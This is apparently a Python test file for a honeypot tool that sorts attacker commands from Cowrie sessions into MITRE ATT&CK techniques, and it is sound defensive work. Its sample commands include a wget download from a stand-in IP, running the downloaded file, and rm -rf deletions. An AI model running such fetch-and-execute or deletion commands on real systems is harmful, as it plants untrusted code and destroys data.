"""Techniques of sessions: each rule once, with its first evidence and its span, whatever the order of the rows."""

from hypothesis import given
from hypothesis import strategies as st

from cowrie_assets.cowrie.session_techniques import SessionTechnique, TypedCommand, techniques_of_session
from cowrie_assets.cowrie.techniques import own_matcher

MATCHER = own_matcher()
SPAN = (0, 1_000)
COMMANDS = ["rm -rf /tmp/x", "wget http://192.0.2.1/x", "./x", "uname -a", "rm x", "exit", "free -m; rm y"]
TYPED = st.builds(TypedCommand, st.integers(0, 5), st.integers(6, 9), st.sampled_from(COMMANDS))


def test_a_row_has_the_first_evidence_and_the_whole_span():
    rows = techniques_of_session(
        MATCHER,
        [TypedCommand(30, 40, "uname -a"), TypedCommand(10, 90, "free -m"), TypedCommand(20, 20, "exit")],
        {"login_failures": 3, "login_successes": 1, "file_uploads": 0},
        SPAN,
    )
    assert rows == [
        SessionTechnique("T1078.003", "accepted_login", "", 0, 1_000),
        SessionTechnique("T1082", "system_information", "free -m", 10, 90),
        SessionTechnique("T1110.001", "refused_logins", "", 0, 1_000),
    ]


def test_removing_counts_only_behind_what_was_brought():
    def removals(*commands: str) -> list[tuple[str, int]]:
        typed = [TypedCommand(at, at, command) for at, command in enumerate(commands)]
        rows = techniques_of_session(MATCHER, typed, {}, SPAN)
        return [(row.evidence, row.first_seen) for row in rows if row.technique == "T1070.004"]

    assert removals("rm x", "uname") == []
    assert removals("rm x", "wget http://192.0.2.1/x", "rm y") == [("rm y", 2)]


@given(st.lists(TYPED, unique=True, max_size=12).flatmap(lambda rows: st.tuples(st.just(rows), st.permutations(rows))))
def test_the_order_in_which_rows_are_read_changes_nothing(orders):
    one, other = orders
    assert techniques_of_session(MATCHER, one, {}, SPAN) == techniques_of_session(MATCHER, other, {}, SPAN)
